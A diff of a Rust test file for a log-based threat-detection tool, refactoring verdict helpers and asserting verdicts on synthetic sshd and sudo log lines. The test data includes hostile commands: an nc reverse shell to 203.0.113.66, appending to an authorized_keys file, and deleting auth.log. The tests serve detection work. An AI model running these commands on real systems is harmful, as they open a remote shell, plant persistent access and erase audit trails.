@@ -1,23 +1,9 @@
 //! Logs that a reviewer made after public descriptions of techniques: the shipped rules dismiss none of these attacks, and confirm none of
 //! these ordinary days.
 
-use gimbal_evidence::extract::{Extraction, ReadOptions};
-use gimbal_evidence::judge::Verdict::{self, Inconclusive, ThreatConfirmed, ThreatDismissed};
-use gimbal_evidence::rules::{Decision, SkepticKind, single_turn};
-use gimbal_evidence::{Packet, Selection};
+use gimbal_evidence::judge::Verdict::{Inconclusive, ThreatConfirmed, ThreatDismissed};
 
-use crate::support::shipped_rules;
-
-fn packet(source: &str) -> Packet {
-    let mut extraction =
-        Extraction::new(Selection::default(), ReadOptions { year: Some(2026), ..ReadOptions::default() });
-    extraction.read(source.as_bytes(), None, 0).unwrap();
-    extraction.finish().unwrap()
-}
-
-fn verdict(source: &str) -> Verdict {
-    single_turn(&packet(source), &shipped_rules(), SkepticKind::Deterministic, Decision::Claims).verdict
-}
+use crate::support::verdict_of as verdict;
 
 fn sshd(second: u32, message: &str) -> String {
     format!("Mar 10 08:{:02}:{:02} web01 sshd[{second}]: {message}\n", second / 60, second % 60)
@@ -106,7 +92,7 @@ fn commands_are_read_wherever_they_are_written() {
         format!("Mar 10 08:05:00 web01 sudo:   ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}\n")
     };
     assert_eq!(verdict(&sudo("/bin/nc -e /bin/sh 203.0.113.66 4444")), ThreatConfirmed);
-    let covered = sudo("/usr/bin/tee -a /root/.ssh/authorized_keys") + &sudo("/bin/rm -f /var/log/auth.log");
+    let covered = sudo("/usr/bin/tee -a /home/bob/.ssh/authorized_keys") + &sudo("/bin/rm -f /var/log/auth.log");
     assert_eq!(verdict(&covered), ThreatConfirmed);
     assert_eq!(verdict(&sudo("/usr/bin/apt update")), ThreatDismissed);
 }
